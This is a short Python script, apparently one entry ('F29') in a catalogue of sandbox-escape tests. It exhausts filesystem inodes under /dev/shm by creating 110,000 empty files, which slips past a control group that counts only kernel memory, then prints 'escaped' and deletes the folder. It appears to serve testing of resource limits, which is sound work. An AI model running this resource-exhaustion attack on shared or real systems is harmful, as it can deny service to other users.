"""Eats the file system's nodes with empty files; it need not fill a single page.

exploit: F29
layer: the control group counts the kernel's memory, the scratch folder its nodes
needs: total memory
"""

import os
import subprocess
import tempfile

folder = tempfile.mkdtemp(dir="/dev/shm")
try:
    os.chdir(folder)
    for number in range(110_000):
        os.mknod(f"{number:x}")
    print("escaped")
finally:
    subprocess.run(["rm", "-rf", folder])  # in C: a slow machine needs the time
